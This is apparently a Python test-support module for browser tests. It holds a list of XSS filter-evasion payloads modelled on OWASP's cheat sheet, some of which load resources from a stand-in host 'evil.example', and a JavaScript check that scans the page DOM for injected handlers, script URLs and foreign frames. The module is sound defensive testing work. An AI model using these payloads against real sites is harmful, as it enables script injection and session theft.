"""Hostile strings for the browser tests: the families of OWASP's XSS filter evasion cheat sheet, and a check of
the page's markup for what any of them would leave behind had it got through.

Each string, rendered as markup instead of text, would do something the page watch (support.PageWatch) or
`injected_markup` sees: open a dialog, break the policy with an inline script or style, ask another host
for something, or leave an event handler or a script address in the page. What is escaped does nothing.
"""

# Another host: a payload that got through as markup asks it for something, which the watch records.
EVIL = "evil.example"

PAYLOADS = [
    # Script tags, in cases, split, and with attributes the filters look past.
    "<script>alert(1)</script>",
    "<ScRiPt>alert(2)</sCrIpT>",
    "<scr<script>ipt>alert(3)</scr</script>ipt>",
    f'<script src="//{EVIL}/x.js"></script>',
    "<script\x0cdefer>alert(4)</script>",
    # Event handlers, with and without quotes, on tags that fire them at once.
    "<img src=x onerror=alert(5)>",
    '<img src="x" onerror="alert(6)">',
    "<svg onload=alert(7)>",
    "<body onload=alert(8)>",
    "<details open ontoggle=alert(9)>",
    "<input autofocus onfocus=alert(10)>",
    '<img """><script>alert(11)</script>">',
    # Addresses that run script or load another host's content.
    "javascript:alert(12)",
    '<a href="javascript:alert(13)">link</a>',
    '<a href="jav&#x09;ascript:alert(14)">tab</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxNSk8L3NjcmlwdD4=">data</a>',
    f'<iframe src="//{EVIL}/"></iframe>',
    f'<link rel="stylesheet" href="//{EVIL}/x.css">',
    f'<meta http-equiv="refresh" content="0;url=//{EVIL}/">',
    f'<base href="//{EVIL}/">',
    f'<form action="//{EVIL}/"><button>go</button></form>',
    f'<div style="background:url(//{EVIL}/x.png)">styled</div>',
    # SVG and MathML, whose parsers differ from HTML's.
    "<svg><script>alert(16)</script></svg>",
    "<svg><animate onbegin=alert(17) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(18)>",
    # Breaking out of an attribute, a quoted string, a comment or a raw text element.
    '" onmouseover="alert(19)" autofocus onfocus="alert(20)" x="',
    "' onfocus='alert(21)' autofocus '",
    '"><img src=x onerror=alert(22)>',
    "</title><script>alert(23)</script>",
    "</textarea><script>alert(24)</script>",
    "</script><script>alert(25)</script>",
    "--><img src=x onerror=alert(26)><!--",
    '";alert(27);//',
    "{{ 7*7 }}{% now 'Y' %}${alert(28)}",
    # HTML entities and numeric references, which must reach the page as the characters they spell.
    "&lt;img src=x onerror=alert(29)&gt;",
    "&#60;script&#62;alert(30)&#60;/script&#62;",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(31)>",
    "\\u003cimg src=x onerror=alert(32)\\u003e",
    # A null byte, right-to-left overrides and other invisible characters around markup.
    "<scr\x00ipt>alert(33)</scr\x00ipt>",
    "\u202e<img src=x onerror=alert(34)>\u202c",
    "\u2066\u200b<svg onload=alert(35)>\u2069",
    # A long string: nothing is cut in the middle of an escape.
    "<img src=x onerror=alert(36)>" + "A" * 4000,
]

# Payloads short enough for fields with a small max_length (names, labels); each still carries markup.
SHORT_PAYLOADS = [payload[:60] for payload in PAYLOADS if "<" in payload[:60] or '"' in payload[:60]]

INJECTED_MARKUP = """
() => {
  // The attributes a browser follows as an address; a value attribute that spells one is only text.
  const URL_ATTRIBUTES = new Set(["href", "src", "action", "formaction", "xlink:href", "data", "poster", "srcdoc"]);
  const found = [];
  for (const element of document.querySelectorAll("*")) {
    for (const attribute of element.attributes) {
      const value = attribute.value.replace(/[\\s\\u0000-\\u001f]/g, "").toLowerCase();
      if (attribute.name.startsWith("on")) {
        found.push(`${element.localName}[${attribute.name}]`);
      } else if (URL_ATTRIBUTES.has(attribute.name) && /^(javascript|vbscript|data:text\\/html)/.test(value)) {
        found.push(`${element.localName}[${attribute.name}=${attribute.value.slice(0, 40)}]`);
      }
    }
  }
  for (const script of document.querySelectorAll('script:not([src]):not([type="application/ld+json"])')) {
    found.push(`inline script: ${script.textContent.slice(0, 40)}`);
  }
  for (const element of document.querySelectorAll("base, meta[http-equiv]")) {
    found.push(element.outerHTML.slice(0, 80));
  }
  // The site's own frames (the admin's body preview) come from the site; a payload's would not.
  for (const element of document.querySelectorAll("iframe, object, embed, frame")) {
    const address = element.getAttribute("src") ?? element.getAttribute("data") ?? "";
    if (element.hasAttribute("srcdoc") || new URL(address, location.href).origin !== location.origin) {
      found.push(element.outerHTML.slice(0, 80));
    }
  }
  return found;
}
"""


def injected_markup(page):
    """What of a payload's markup is in the page's DOM: event handlers, script addresses, inline scripts,
    <base>, refreshes and frames from elsewhere. Empty on a page that escaped every value it showed."""
    return page.evaluate(INJECTED_MARKUP)
